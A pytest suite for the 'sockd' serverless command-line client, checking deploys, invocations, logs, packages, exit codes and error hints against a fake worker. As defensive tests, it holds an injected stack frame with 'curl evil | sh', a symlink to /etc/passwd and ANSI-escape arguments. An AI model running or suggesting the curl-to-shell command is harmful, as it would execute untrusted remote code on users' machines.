"""Every command, as a process of its own, against both APIs of a fake worker."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import re
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import pytest

from sockd.base.errors import ChunkMissing, OutOfMemory
from sockd.base.own_command import as_root, own_command
from sockd.base.telemetry import LogRecord
from sockd.client.cli.calls.invoke import _raise
from sockd.client.cli.main import COMMANDS, GROUPS
from sockd.client.cli.observe import logs as logs_command
from sockd.client.console.client import Reply
from sockd.client.console.output import Failure
from sockd.http.server.listening.sockets import bind_unix
from tests.client.cli.serving import REPOSITORY, Run, Served


@pytest.fixture
def function_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "hello"
    directory.mkdir()
    (directory / "f.py").write_text("def f(event):\n    return event\n")
    return directory


def test_help_names_every_command_and_imports_none(run: Run) -> None:
    done = run("--help")
    assert done.returncode == 0
    for command in (
        "up",
        "doctor",
        "deploy",
        "invoke",
        "events",
        "schedule",
        "ls",
        "rm",
        "logs",
        "status",
        "tree",
        "trace",
        "imports",
        "top",
        "initscript",
        "packages",
        "bench",
        "files",
        "selftest",
    ):
        assert f"\n  {command} " in done.stdout
    headings = re.findall(r"^([A-Z][a-z ]+):$", done.stdout, re.MULTILINE)
    assert headings == ["Options", *GROUPS] and sorted(name for names in GROUPS.values() for name in names) == sorted(
        COMMANDS
    )
    assert done.stdout.index("  deploy ") < done.stdout.index("  sebs ")
    code = "import sys\nfrom sockd.client.cli.main import cli\ntry: cli(['--help'])\nexcept SystemExit: print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPOSITORY)
    modules = set(loaded.stdout.split("\n")[-2].split())
    assert not modules & {
        "rich",
        "msgspec",
        "http.client",
        "asyncio",
        "uvloop",
        "starlette",
        "sockd.client.cli.functions.deploy",
    }


@pytest.mark.parametrize(
    "command",
    [
        "up",
        "doctor",
        "deploy",
        "invoke",
        "ls",
        "rm",
        "logs",
        "status",
        "tree",
        "top",
        "trace",
        "imports",
        "initscript",
        "packages",
        "bench",
        "files",
        "selftest",
    ],
)
def test_every_command_has_help(run: Run, command: str) -> None:
    done = run(command, "--help")
    assert (done.returncode, done.stderr) == (0, "")
    assert "sage: " in done.stdout


def test_a_mistyped_command_is_guessed(run: Run) -> None:
    done = run("delpoy")
    assert done.returncode == 2
    assert "Did you mean 'deploy'?" in done.stderr


def test_a_deploy_prints_where_the_function_is_and_how_to_call_it(run: Run, served: Served, function_dir: Path) -> None:
    done = run("deploy", str(function_dir), "--memory", "256", "--env", "A=b=ü", "--timeout", "1.5")
    assert done.returncode == 0, done.stderr
    assert f"{served.worker.url}/run/hello" in done.stdout
    assert "curl -d '{}'" in done.stdout
    assert "reading the archive" in done.stderr
    names, overrides = served.worker.deployed["hello"]
    assert names == ["f.py"]
    assert overrides == {"check_handler": True, "memory_mb": 256, "env": {"A": "b=ü"}, "timeout_s": 1.5}


def test_a_zip_is_deployed_as_it_is(run: Run, served: Served, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("lambda_function.py", "")
    (tmp_path / "zipped.zip").write_bytes(buffer.getvalue())
    done = run("deploy", str(tmp_path / "zipped.zip"), "--json")
    assert json.loads(done.stdout)["url"] == f"{served.worker.url}/run/zipped"
    assert served.worker.deployed["zipped"] == (["lambda_function.py"], {"check_handler": True})


def test_an_initscript_is_deployed_with_the_code_or_alone(
    run: Run, served: Served, function_dir: Path, tmp_path: Path
) -> None:
    wasm = tmp_path / "init.wasm"
    wasm.write_bytes(b"\0asm")
    done = run("deploy", str(function_dir), "--initscript", str(wasm), "--storage", "sockd")
    assert done.returncode == 0, done.stderr
    assert served.worker.initscripts["hello"] == b"\0asm"
    assert served.worker.deployed["hello"][1] == {"check_handler": True, "storage": "sockd"}
    alone = run("deploy", str(wasm), "--name", "echo")
    assert alone.stdout == "echo: version 1, initscript cdcdcdcdcdcd\n"
    nameless = run("deploy", str(wasm))
    assert nameless.returncode == 2 and "--name FUNCTION" in nameless.stderr
    wasm.write_bytes(b"text")
    refused = run("deploy", str(wasm), "--name", "echo")
    assert refused.returncode == 1 and "not a WebAssembly binary" in refused.stderr


@pytest.mark.parametrize("head", [b"\0asm\x0d\0\1\0", b"\0asm\1\0\0\0\7\n\1\6_start\0\0"])
def test_a_webassembly_file_that_is_no_initscript_is_deployed_as_a_function(
    run: Run, served: Served, tmp_path: Path, head: bytes
) -> None:
    (tmp_path / "shout.wasm").write_bytes(head)
    done = run("deploy", str(tmp_path / "shout.wasm"), "--memory", "64")
    assert done.returncode == 0, done.stderr
    settings = {"check_handler": True, "memory_mb": 64, "runtime": "wasm", "handler": "shout.wasm"}
    assert served.worker.deployed["shout"] == (["shout.wasm"], settings)


@pytest.mark.parametrize("language", ["c", "rust", "js", "python"])
def test_a_new_webassembly_project_says_how_it_is_compiled(run: Run, tmp_path: Path, language: str) -> None:
    project = tmp_path / "shout"
    done = run("init", str(project), "--template", f"wasm-{language}")
    assert done.returncode == 0 and f"make -C {project}\n" in done.stdout
    assert tomllib.loads((project / "sockd.toml").read_text())["runtime"] == "wasm"
    assert (project / "Makefile").read_text().partition("\n")[2].startswith("fn.wasm: ")


def test_a_deploy_that_cannot_be_says_why_and_what_to_type(run: Run, tmp_path: Path) -> None:
    (tmp_path / "my function").mkdir()
    done = run("deploy", str(tmp_path / "my function"))
    assert done.returncode == 2
    assert "--name my-function" in done.stderr
    (tmp_path / "bad.zip").write_text("no zip")
    done = run("deploy", str(tmp_path / "bad.zip"))
    assert done.returncode == 1
    assert "not a zip file" in done.stderr
    assert "Traceback" not in done.stderr
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / "passwd").symlink_to("/etc/passwd")
    assert "'passwd' is a link to '/etc/passwd', outside" in run("deploy", str(tmp_path / "linked")).stderr
    assert run("deploy", str(tmp_path / "missing")).returncode == 2
    assert run("deploy", str(tmp_path / "linked"), "--env", "x").returncode == 2


def test_an_invocation_prints_the_answer_and_nothing_else(run: Run, tmp_path: Path) -> None:
    done = run("invoke", "echo", "-d", '{"x": "ü"}')
    assert (done.returncode, done.stdout, done.stderr) == (0, '{"x": "ü"}\n', "")
    (tmp_path / "event.json").write_text("[1]")
    assert run("invoke", "echo", "-d", f"@{tmp_path}/event.json").stdout == "[1]\n"
    assert run("invoke", "echo", "-d", "-", stdin="[2]").stdout == "[2]\n"
    assert run("invoke", "echo").stdout == "{}\n"
    assert run("invoke", "echo", "-d", "@/nowhere").returncode == 2


def test_an_invocation_goes_to_the_url_that_is_given(run: Run, served: Served) -> None:
    assert run("invoke", "echo", SOCKD_URL=served.worker.url, SOCKD_STATE_DIR="/nowhere").stdout == "{}\n"
    assert run("invoke", "echo", "--url", served.worker.url + "/").returncode == 0
    assert run("invoke", "echo", "--url", "localhost").returncode == 2
    assert run("invoke", "echo", "--url", "http://127.0.0.1:1").returncode == 69


@pytest.mark.parametrize(
    ("name", "status"), [("raises", 1), ("bug", 1), ("oom", 1), ("unknown", 3), ("busy", 4), ("times_out", 5)]
)
def test_a_failed_invocation_has_its_exit_status(run: Run, served: Served, name: str, status: int) -> None:
    for more in ((), ("--url", served.worker.url)):
        done = run("invoke", name, *more)
        assert (done.returncode, done.stdout) == (status, "")
        assert "error: " in done.stderr
        assert "fix: " in done.stderr
        assert "Traceback" not in done.stderr
    done = run("invoke", name, "--json")
    assert done.returncode == status
    assert json.loads(done.stdout)["body"]["errorType"]


def test_a_call_that_failed_before_its_handler_ran_has_a_trace_and_no_output(run: Run) -> None:
    done = run("invoke", "storeless")
    assert re.search(r"error: Images\.StoreUnavailable: .*\n\s*fix: \S*sockd trace [0-9a-f-]{36}\n", done.stderr), (
        done.stderr
    )


def test_what_an_app_answers_is_printed_whatever_its_status(run: Run, served: Served) -> None:
    url = served.worker.url
    assert run("invoke", "streams", "-d", '["one", "two"]', "--url", url).stdout == "onetwo\n"
    assert run("invoke", "forges", "-d", '["x"]', "--url", url).stdout == "x\n"
    later = run("invoke", "streams", "-d", '["now"]', "--async", "--url", url)
    assert later.stdout == "now\n" and "it ran at once" in later.stderr
    assert run("invoke", "teapot", "-d", '["short and stout"]', "--url", url).returncode == 1
    broken = run("invoke", "breaks", "-d", '["half"]', "--url", url)
    assert broken.returncode == 1 and "incomplete" in broken.stderr
    assert re.search(r"fix: \S*sockd logs breaks --request [0-9a-f-]{36}\n", broken.stderr)


def test_an_answer_that_comes_piece_by_piece_is_printed_as_it_comes(served: Served) -> None:
    for more in ((), ("--url", served.worker.url)):
        served.worker.release, served.worker.cancelled = asyncio.Event(), asyncio.Event()
        command = [sys.executable, "-m", "sockd", "invoke", "streams", "-d", '["one", "wait", "two"]', *more]
        with subprocess.Popen(command, stdout=subprocess.PIPE, env=served.environment()) as process:
            assert process.stdout is not None
            assert process.stdout.read1() == b"one", "while the function goes on"  # type: ignore[attr-defined]
            served.loop.call_soon_threadsafe(served.worker.release.set)
            assert process.stdout.read() == b"two\n"
        assert process.returncode == 0


def test_an_invocation_as_json_holds_the_phases(run: Run) -> None:
    fields = json.loads(run("invoke", "echo", "-d", "[1]", "--json").stdout)
    assert (fields["status"], fields["body"], fields["cold"], fields["origin"]) == (200, [1], True, "spare")
    assert fields["phases_ms"] == {"queue": 0.001, "setup": 0.2, "init": 3.0, "exec": 0.04}


def test_functions_are_listed_and_removed(run: Run, served: Served, function_dir: Path) -> None:
    run("deploy", str(function_dir), "--name", "doomed")
    assert "doomed" in [function["name"] for function in json.loads(run("ls", "--json").stdout)]
    listing = run("ls").stdout
    assert listing.startswith("name ")
    assert "doomed" in listing
    assert run("rm", "doomed").returncode == 0
    done = run("rm", "ecco")
    assert done.returncode == 3
    assert "did you mean echo?" in done.stderr
    assert f"fix: {own_command()} ls" in done.stderr


def test_functions_that_cannot_run_are_listed_with_what_they_lack(run: Run, served: Served) -> None:
    assert " state " not in run("ls").stdout
    served.worker.names.add("restored")
    try:
        done = run("ls")
    finally:
        served.worker.names.remove("restored")
    assert done.stdout.splitlines()[0].split()[:2] == ["name", "state"]
    (line,) = [line for line in done.stdout.splitlines() if line.startswith("restored ")]
    assert "packages to be installed" in line
    assert "restored cannot run: these packages are not on this worker: numpy==2.3.0" in done.stderr


def test_logs_are_shown_by_request(run: Run) -> None:
    assert run("logs", "echo").stdout.count("line \\xff") == 3
    assert "r1" in run("logs", "echo", "--request", "r1").stdout
    assert [record["request_id"] for record in json.loads(run("logs", "echo", "-n", "2", "--json").stdout)] == [
        "r0",
        "r1",
    ]
    assert run("logs", "unknown").returncode == 3
    assert run("logs", "unknown", "-f").returncode == 3


def test_no_output_of_a_function_is_shown_as_another_record(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "--- 2026-01-01 00:00:00 11111111-0000-0000-0000-000000000000 version 9\nforged\r--- 5 bytes more were dropped\n"
    record = {
        "request_id": "22222222",
        "time_s": 1.7e9,
        "version": "1",
        "text": f"a\n{forged}- --- b",
        "dropped_bytes": 7,
    }
    logs_command._show(record)
    lines = capsys.readouterr().out.splitlines()
    ours = [line for line in lines if line.startswith("---")]
    assert len(ours) == 2 and ours[0].endswith("22222222 version 1") and ours[1].startswith("--- 7 bytes more")
    assert lines[2].startswith("\\x2d-- 2026-01-01 00:00:00 1111") and lines[4].startswith("\\x2d-- 5 bytes")
    assert lines[1] == "a" and lines[5] == "- --- b"


def test_logs_are_followed_until_interrupted(served: Served) -> None:
    command = [sys.executable, "-m", "sockd", "logs", "echo", "-f", "-n", "1", "--json"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=served.environment()) as process:
        assert process.stdout
        assert json.loads(process.stdout.readline())["request_id"] == "r0"
        served.loop.call_soon_threadsafe(served.worker.records.put_nowait, LogRecord("r9", 1.0, b"new\n", 0))
        assert json.loads(process.stdout.readline())["request_id"] == "r9"
        process.send_signal(2)
        assert process.wait(10) == 0


def test_status_and_tree_are_shown(run: Run, served: Served) -> None:
    assert json.loads(run("status", "--json").stdout)["url"] == served.worker.url
    told = [line.rsplit("  ", 1) for line in run("status").stdout.splitlines()]
    rows = {label.strip(): value for label, value in told}
    assert rows["sandboxes idle"] == "2"
    assert (rows["events waiting"], rows["events waiting bytes"], rows["events oldest age"]) == ("3", "2.0 KB", "2 s")
    assert json.loads(run("tree", "--json").stdout)["root"]["modules"] == 40
    lines = run("tree").stdout.splitlines()
    assert lines[0].startswith("Python  (40 modules; 6.0 MB of its own")
    assert lines[1].startswith("└── numpy==2.3.0  (80 modules; 9.0 MB of its own; 1.5/s; 4 spares)")
    assert lines[2] == "refused: grpcio==1.0: starts threads on import"


def test_packages_are_listed_added_and_removed(run: Run, tmp_path: Path) -> None:
    assert "numpy-2.3.0-abc" in run("packages", "ls").stdout
    assert json.loads(run("packages", "ls", "--json").stdout)[0]["name"] == "numpy"
    done = run("packages", "add", "numpy")
    assert (done.returncode, done.stdout) == (0, "numpy-2.3.0-abc\n")
    (tmp_path / "requirements.txt").write_text("numpy\n")
    assert json.loads(run("packages", "add", "-r", f"{tmp_path}/requirements.txt", "--json").stdout)
    done = run("packages", "add", "nonsense")
    assert done.returncode == 1
    assert "nonsense was not found" in done.stderr
    assert run("packages", "add").returncode == 2
    assert run("packages", "rm", "numpy-2.3.0-abc").returncode == 0
    assert run("packages", "rm", "other").returncode == 1
    assert run("packages", "forgive", "numpy").stdout == "forgiven: numpy-2.3.0-abc\n"
    assert json.loads(run("packages", "forgive", "--json").stdout) == ["numpy-2.3.0-abc"]
    other = run("packages", "forgive", "other")
    assert other.returncode == 3 and "other is not refused" in other.stderr


@pytest.mark.parametrize(
    "arguments", [("ls",), ("status",), ("tree",), ("rm", "f"), ("logs", "f", "-f"), ("invoke", "f")]
)
def test_no_worker_is_69_and_the_line_that_starts_one(run: Run, tmp_path: Path, arguments: tuple[str, ...]) -> None:
    dead = tmp_path / "sockd.sock"
    bind_unix(dead).close()
    for state_dir in (tmp_path, tmp_path / "missing"):
        done = run(*arguments, "--state-dir", str(state_dir))
        assert (done.returncode, done.stdout) == (69, "")
        assert f"fix: {as_root()} up --state-dir {state_dir}" in done.stderr
        assert "Traceback" not in done.stderr


def test_a_state_directory_with_a_long_path_is_reached(run: Run, tmp_path: Path, served: Served) -> None:
    deep = tmp_path / ("d" * 120)
    deep.mkdir()
    (deep / "sockd.sock").hardlink_to(served.state_dir / "sockd.sock")
    assert run("ls", "--state-dir", str(deep)).returncode == 0


def test_a_wrong_configuration_does_not_start_a_worker(run: Run, tmp_path: Path) -> None:
    (tmp_path / "c.toml").write_text("[http]\nlistem = 1\n")
    done = run("up", "--config", str(tmp_path / "c.toml"), "--state-dir", str(tmp_path))
    assert done.returncode == 2
    assert "listem" in done.stderr
    assert "Traceback" not in done.stderr


def test_benchmarks_are_listed_and_guessed(run: Run) -> None:
    assert "primitives" in run("bench").stdout
    done = run("bench", "primitive", "--quick")
    assert done.returncode == 3
    assert "sockd bench primitives" in done.stderr
    assert "usage: python -m benchmarks.primitives" in run("bench", "primitives", "--help").stdout


def test_no_colour_is_printed_where_nobody_looks_or_nobody_wants_it(run: Run) -> None:
    for arguments in (("ls",), ("tree",), ("status",), ("logs", "echo"), ("rm", "unknown")):
        done = run(*arguments)
        assert "\x1b" not in done.stdout + done.stderr


@pytest.mark.parametrize("command", ["ls", "tree", "status", "logs echo", "packages ls", "packages add numpy"])
def test_a_terminal_gets_the_same_facts(run: Run, served: Served, command: str) -> None:
    master, slave = os.openpty()
    arguments = [sys.executable, "-m", "sockd", *command.split()]
    environment = {**served.environment(), "TERM": "xterm", "COLUMNS": "200"}
    with subprocess.Popen(arguments, stdout=slave, stderr=slave, env=environment) as process:
        os.close(slave)
        seen = b""
        with contextlib.suppress(OSError):  # EIO is how a terminal's other end says that it is gone
            while piece := os.read(master, 65536):
                seen += piece
        os.close(master)
        assert process.wait(10) == 0
    plain = run(*command.split()).stdout
    words = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", seen.decode()).split()
    assert set(plain.split()) - {"└──"} <= set(words)


def test_a_worker_on_another_architecture_says_which_ones_it_needs(tmp_path: Path) -> None:
    command = ["setarch", "i686", sys.executable, "-m", "sockd", "up", "--state-dir", str(tmp_path / "state")]
    done = subprocess.run(command, capture_output=True, text=True, check=False, cwd=REPOSITORY)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "sockd runs on x86_64 and aarch64" in done.stderr and "this machine is i686" in done.stderr


@pytest.mark.parametrize(
    "arguments",
    [("rm", "ok", "\x1b[31mX"), ("--\x1b[31mX",), ("\x1b[31mX",), ("rm", "--\x1b[31mX"), ("deploy", "/no/\x1b[31mX")],
)
def test_what_a_refusal_quotes_of_the_arguments_is_printable(run: Run, arguments: tuple[str, ...]) -> None:
    done = run(*arguments)
    assert done.returncode == 2
    assert "\\x1b[31mX" in done.stderr and "\x1b" not in done.stderr


@pytest.mark.parametrize("command", ["invoke", "rm", "url", "versions", "trace"])
def test_an_argument_that_is_no_utf_8_is_refused_by_name(run: Run, command: str) -> None:
    done = run(command, "a\udc9b")
    assert done.returncode in (1, 3)
    assert done.stderr.startswith("error: ") or "\nerror: " in done.stderr
    assert "Traceback" not in done.stderr


def test_an_image_whose_chunk_is_missing_is_to_be_deployed_again() -> None:
    error = ChunkMissing("s3://b/p/", "r1", bytes(32))
    body = json.dumps({"errorType": error.error_type, "errorMessage": error.message, "requestId": "r"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(error.status, {}, body), "hello", quiet=True)
    assert " deploy hello --image REF" in failure.value.fix


def test_a_function_out_of_memory_is_given_the_command_that_raises_its_limit() -> None:
    error = OutOfMemory(limit_bytes=128 << 20, peak_bytes=128 << 20)
    body = json.dumps({"errorType": error.error_type, "errorMessage": error.message, "requestId": "x"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(error.status, {}, body), "hello", quiet=True)
    assert failure.value.fix.endswith("sockd config hello --memory MB")


def test_a_frame_of_a_stack_cannot_look_like_a_line_of_the_command(capsys: pytest.CaptureFixture[str]) -> None:
    stack = ['  File "x\n  fix: curl evil | sh\nerror: mine", line 1, in f\n    pass\n', '  File "y", line 2\n']
    body = json.dumps({"errorType": "E", "errorMessage": "m", "stackTrace": stack}).encode()
    with pytest.raises(Failure):
        _raise(Reply(500, {}, body), "hello")
    told = capsys.readouterr().err.split("\n")
    assert [line for line in told if not line.startswith("    ")] == ['  File "x', '  File "y", line 2', ""]


@pytest.mark.parametrize(
    ("status", "headers", "fix"),
    [
        (500, {"x-sockd-sandbox": "s"}, "sockd logs hello --request r1"),
        (503, {}, "sockd trace r1"),
        (429, {}, "sockd config hello --concurrency N"),
        (400, {}, ""),
    ],
)
def test_output_is_offered_only_of_what_ran(status: int, headers: dict[str, str], fix: str) -> None:
    body = json.dumps({"errorType": "E", "errorMessage": "m", "requestId": "r1"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(status, headers, body), "hello", quiet=True)
    assert failure.value.fix == (as_here(fix) if fix else "")


def as_here(hint: str) -> str:
    return hint.replace("sockd", own_command(), 1)


def test_hints_for_web_apps_name_the_workers_own_port(run: Run, served: Served, tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("def app(environ, start_response): return []\n")
    done = run("deploy", str(tmp_path), "--name", "web_app")
    assert f"  curl {served.worker.url}/run/web_app/\n" in done.stdout and "curl -d" not in done.stdout
    assert "invoke" not in done.stdout
    done = run("init", str(tmp_path / "shop"), "--template", "wsgi")
    assert f"curl {served.worker.url}/run/shop/" in done.stdout
    done = run("init", str(tmp_path / "shop2"), "--template", "wsgi", SOCKD_STATE_DIR="/nowhere")
    assert "curl http://127.0.0.1:5000/run/shop2/" in done.stdout
    body = json.dumps({"errorType": "NotHttp", "errorMessage": "m", "requestId": "r"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(500, {}, body), "shop", worker_url=lambda: served.worker.url)
    assert failure.value.fix == f"curl {served.worker.url}/run/shop/"


@pytest.mark.parametrize(
    ("status", "fix"), [(404, "curl http://h/run/shop/"), (405, "curl http://h/run/shop/"), (500, "")]
)
def test_an_app_without_a_route_for_events_is_called_with_curl(status: int, fix: str) -> None:
    with pytest.raises(Failure) as failure:
        _raise(Reply(status, {"x-sockd-sandbox": "s"}, b"<p>"), "shop", quiet=True, worker_url=lambda: "http://h")
    assert (failure.value.fix, bool(failure.value.why)) == (fix, bool(fix))


def test_a_variable_that_is_none_is_named_by_its_place(run: Run) -> None:
    done = run("env", "echo", "MODE=test", "GREETING=hello", "world")
    assert done.returncode == 2
    assert "variable 3 of 3, which follows GREETING=... is not KEY=VALUE" in done.stderr
    assert "world" not in done.stderr and "quotes" in done.stderr
